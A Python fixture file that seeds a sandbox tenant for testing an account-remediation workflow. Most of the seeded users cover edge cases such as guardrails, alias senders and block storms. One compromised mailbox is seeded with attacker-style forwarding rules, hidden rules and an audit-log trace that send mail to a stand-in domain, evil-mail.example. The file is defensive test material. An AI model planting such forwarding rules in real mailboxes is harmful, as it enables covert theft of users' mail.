"""The demo tenant: blocked users that exercise each path of the workflow."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from remediation.sandbox.alert_seed import demo_alerts
from remediation.sandbox.audit_log import hours_ago
from remediation.sandbox.inbox_rules import hidden_rule, system_rules
from remediation.sandbox.state import (
    GLOBAL_ADMINISTRATOR,
    BlockBehaviour,
    SandboxTenant,
    SandboxUser,
)

BREAK_GLASS_GROUP_ID = "3f0c6a8e-2d5b-4c71-9e4a-b8d2f1a7c905"
BREAK_GLASS_GROUP = "Break-glass accounts"
EVIL_DOMAIN = "evil-mail.example"
LEGACY_MAILBOX = "$scanner@contoso.com"
ALIAS = "sales@contoso.com"
STORM_SIZE = 8
HIDDEN_RULE_ID = 16752869479666417665  # Lynne's hidden forwarding rule (RuleIdentity)
DELETED_RULE_ID = 17639250888751054849  # the rule the attacker created and deleted


@dataclass(frozen=True)
class DemoUser:
    """One seeded user: the directory entry, and how (or whether) the sender is blocked."""

    user: SandboxUser
    blocked: bool = True
    behaviour: BlockBehaviour = field(default_factory=BlockBehaviour)
    block_as: str | None = None  # the address on the list, when it is not the primary one


def demo_users() -> list[DemoUser]:
    return [
        DemoUser(SandboxUser("adele.vance@contoso.com", "Adele Vance")),
        # Still listed at the first verification read, gone at the next.
        DemoUser(SandboxUser("lee.gu@contoso.com", "Lee Gu"),
                 behaviour=BlockBehaviour(linger_reads=2)),
        # Blocked again right after the unblock: the account is still abused.
        DemoUser(SandboxUser("megan.bowen@contoso.com", "Megan Bowen"),
                 behaviour=BlockBehaviour(reblock_after_reads=0)),
        # A Global Administrator: an app may not reset her password.
        DemoUser(SandboxUser("patti.fernandez@contoso.com", "Patti Fernandez",
                             reset_forbidden=True, role_template_ids=[GLOBAL_ADMINISTRATOR])),
        # The demo asks for him twice: the second request must change nothing.
        DemoUser(SandboxUser("diego.siciliani@contoso.com", "Diego Siciliani")),
        # Blocked with no alert (the alert policy is off): found by the sweep.
        DemoUser(SandboxUser("johanna.lorenz@contoso.com", "Johanna Lorenz")),
        DemoUser(SandboxUser("alex.wilber@contoso.com", "Alex Wilber"), blocked=False),
        DemoUser(SandboxUser("nestor.wilke@contoso.com", "Nestor Wilke"), blocked=False),
        # Guardrails: accounts the robot must not reset, each for its own reason.
        DemoUser(SandboxUser("grace.taylor@contoso.com", "Grace Taylor",
                             group_ids=[BREAK_GLASS_GROUP_ID])),
        DemoUser(SandboxUser("isaiah.langer@contoso.com", "Isaiah Langer",
                             on_premises_sync_enabled=True)),
        DemoUser(SandboxUser("pradeep.gupta_fabrikam.com#EXT#@contoso.onmicrosoft.com",
                             "Pradeep Gupta (Fabrikam)", user_type="Guest",
                             mail="pradeep.gupta@fabrikam.com")),
        DemoUser(SandboxUser("miriam.graham@contoso.com", "Miriam Graham",
                             account_enabled=False)),
        # Mailbox hygiene: what an attacker plants to keep reading mail after the reset.
        DemoUser(_lynne()),
        # A legacy service mailbox whose UPN starts with "$": Graph takes it only as
        # /users('$scanner@contoso.com').
        DemoUser(SandboxUser(LEGACY_MAILBOX, "Scanner (legacy service mailbox)")),
        # Spam sent from an alias: the block (and the alert) name sales@, which Graph finds
        # only through proxyAddresses; the unblock must name the listed alias.
        DemoUser(SandboxUser("lidia.holloway@contoso.com", "Lidia Holloway", proxy_addresses=[
            "SMTP:lidia.holloway@contoso.com", f"smtp:{ALIAS}"]), block_as=ALIAS),
        # A storm: more blocked accounts at once than the reset breaker lets through.
        *(DemoUser(SandboxUser(address, f"Storm {address[5:7]}"))
          for address in storm_addresses()),
    ]


def _lynne() -> SandboxUser:
    """Two planted rules (forward outside and mark read; hide invoices in RSS Feeds), one
    ordinary rule, and mailbox forwarding outside the organisation."""
    lynne = SandboxUser("lynne.robbins@contoso.com", "Lynne Robbins",
                        forwarding_smtp_address=f"drop@{EVIL_DOMAIN}")
    newsletters = lynne.add_folder("Newsletters")
    collector = {"emailAddress": {"name": "collect", "address": f"collect@{EVIL_DOMAIN}"}}
    lynne.inbox_rules = [
        # Attackers favour rules with no name to speak of and no condition: all mail.
        _rule("AQAAAJ5dZqA=", "..", 1, {}, {
            "forwardTo": [collector], "markAsRead": True, "stopProcessingRules": False}),
        _rule("AQAAAJ5dZqE=", "Invoices", 2, {"subjectContains": ["invoice"]}, {
            "moveToFolder": lynne.folder_id("RSS Feeds"), "markAsRead": True,
            "stopProcessingRules": True}),
        _rule("AQAAAJ5dZqI=", "Newsletters", 3, {"subjectContains": ["newsletter"]}, {
            "moveToFolder": newsletters, "stopProcessingRules": False}),
    ]
    # What Graph never shows: a hidden rule forwarding everything outside, and Exchange's own
    # rules (junk e-mail, out of office, a delegate's meeting requests), which stay as they are.
    lynne.exchange_rules = [
        hidden_rule(lynne, ".", HIDDEN_RULE_ID, MarkAsRead=True, StopProcessingRules=True,
                    ForwardTo=[f'"sync" [SMTP:sync@{EVIL_DOMAIN}]']),
        *system_rules(lynne)]
    return lynne


def _lynne_history(tenant: SandboxTenant) -> None:
    """A rule the attacker created and deleted again: only the audit log remembers it."""
    lynne = tenant.user("lynne.robbins@contoso.com")
    tenant.audit_log.rule_change(lynne, "New-InboxRule", {
        "Name": "Payroll", "SubjectContainsWords": "salary;payslip",
        "ForwardTo": f"payroll-copy@{EVIL_DOMAIN}", "StopProcessingRules": "True"},
        at=hours_ago(30))
    tenant.audit_log.rule_change(lynne, "Remove-InboxRule", {"Identity": "Payroll"},
                                 at=hours_ago(26),
                                 object_id=f"{lynne.id}\\{DELETED_RULE_ID}")


def _rule(rule_id: str, name: str, sequence: int, conditions: dict[str, Any],
          actions: dict[str, Any]) -> dict[str, Any]:
    """An inbox rule in Graph's messageRule shape."""
    return {"id": rule_id, "displayName": name, "sequence": sequence, "isEnabled": True,
            "hasError": False, "isReadOnly": False, "conditions": conditions,
            "actions": actions, "exceptions": None}


def storm_addresses() -> list[str]:
    return [f"storm{n:02d}@contoso.com" for n in range(1, STORM_SIZE + 1)]


def start_storm(tenant: SandboxTenant) -> None:
    """Block the storm accounts (when ``demo_tenant(storm=False)`` left them unblocked)."""
    for address in storm_addresses():
        tenant.block(address)


def demo_tenant(*, with_alerts: bool = True, storm: bool = True) -> SandboxTenant:
    tenant = SandboxTenant(domains=["contoso.com"])
    tenant.add_group(BREAK_GLASS_GROUP_ID, BREAK_GLASS_GROUP)
    held_back = set() if storm else set(storm_addresses())
    for seeded in demo_users():
        user = tenant.add_user(seeded.user)
        if seeded.blocked and user.address not in held_back:
            tenant.block(seeded.block_as or user.address, behaviour=seeded.behaviour)
    _lynne_history(tenant)
    if with_alerts:
        for raw in demo_alerts():
            tenant.add_alert(raw)
    return tenant
